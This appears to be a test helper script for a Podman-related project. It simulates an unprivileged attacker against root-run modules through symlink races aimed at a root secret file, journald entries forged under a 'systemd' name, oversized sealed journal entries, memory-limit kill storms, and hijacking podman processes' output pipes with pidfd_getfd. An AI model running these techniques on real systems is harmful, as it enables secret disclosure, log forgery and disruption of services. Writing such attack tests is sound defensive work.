# Copyright (c) 2026, podman_fleet.memory contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What alice runs in test_attacks.py while root's modules work: attack.py replace RUNTIME_DIR SECRET, attack.py answer FILE COMMAND...,
attack.py flood ID NUMBER, attack.py die NUMBER; in test_recorder.py: attack.py swell MEBIBYTES."""

import contextlib
import ctypes
import fcntl
import os
import signal
import socket
import sys
import time
from array import array

PIDFD_OPEN, PIDFD_GETFD = 434, 438


def replace(run, secret):
    """Replace whatever is made in the runtime directory for Podman's service by links to a file of root's."""
    number = 0
    while True:
        for name in os.listdir(run):
            if not name.startswith("podman-fleet"):
                continue
            number += 1
            path = os.path.join(run, name)
            for each in ("stderr", "api.sock"):
                with contextlib.suppress(OSError):
                    os.symlink(secret, os.path.join(path, each))
            if number % 3 == 0:
                with contextlib.suppress(OSError):
                    os.rename(path, os.path.join(run, "old-%d" % number))
                    os.symlink(os.path.dirname(secret), path)


def flood(ident, number):
    """Write so many entries in the words of Podman's events and of a service manager; journald wants them in several services."""
    with open("/proc/self/comm", "w", encoding="ascii") as stream:
        stream.write("systemd")
    journald = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    journald.connect("/run/systemd/journal/socket")
    entries = [("PODMAN_EVENT=died\nPODMAN_ID=%s\nMESSAGE=x\n" % ident).encode("ascii"),
               b"MESSAGE_ID=fe6faa94e7774663a0da52717891d8ef\nUSER_UNIT=x.service\nMESSAGE=x\n"]
    for count in range(number):
        journald.send(entries[count % 2])


def swell(mebibytes):
    """Write one event with a field so long, of bytes that are no text: sd_journal_sendv() sends it as a sealed file, too."""
    size = mebibytes << 20
    entry = b"PODMAN_EVENT=died\nPODMAN_ID=" + b"ef" * 32 + b"\nPODMAN_NAME\n" + size.to_bytes(8, "little") + b"\xff" * size + b"\nMESSAGE=x\n"
    descriptor = os.memfd_create("entry", os.MFD_ALLOW_SEALING)
    with os.fdopen(descriptor, "wb", closefd=False) as stream:
        stream.write(entry)
    fcntl.fcntl(descriptor, fcntl.F_ADD_SEALS, fcntl.F_SEAL_SEAL | fcntl.F_SEAL_SHRINK | fcntl.F_SEAL_GROW | fcntl.F_SEAL_WRITE)
    journald = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    journald.connect("/run/systemd/journal/socket")
    journald.sendmsg([], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array("i", [descriptor]))])


def die(number):
    """Have so many children killed by the service's limit, as fast as it goes."""
    for _number in range(number):
        pid = os.fork()
        if pid == 0:
            os._exit(len(b"x" * (64 << 20)) == 0)
        os.waitpid(pid, 0)


def answer(path, *command):
    """Write a file's content into the pipe of each `podman COMMAND` of one's own, and end that process."""
    with open(path, "rb") as stream:
        content = stream.read()
    libc = ctypes.CDLL(None, use_errno=True)
    done = set()
    while True:
        for name in os.listdir("/proc"):
            if not name.isdigit() or name in done:
                continue
            try:
                with open("/proc/%s/cmdline" % name, "rb") as stream:
                    words = stream.read().split(b"\0")
                if words[1:1 + len(command)] != [word.encode() for word in command]:
                    continue
                os.kill(int(name), signal.SIGSTOP)
                done.add(name)
                pipe = libc.syscall(PIDFD_GETFD, libc.syscall(PIDFD_OPEN, int(name), 0), 1, 0)
                if pipe >= 0:
                    os.write(pipe, content)
                    os.close(pipe)
                    print("answered", flush=True)
                os.kill(int(name), signal.SIGKILL)
            except OSError:
                continue
        time.sleep(0.001)


if __name__ == "__main__":
    command, words = sys.argv[1], sys.argv[2:]
    if command == "flood":
        flood(words[0], int(words[1]))
    elif command in ("die", "swell"):
        {"die": die, "swell": swell}[command](int(words[0]))
    else:
        {"replace": replace, "answer": answer}[command](*words)
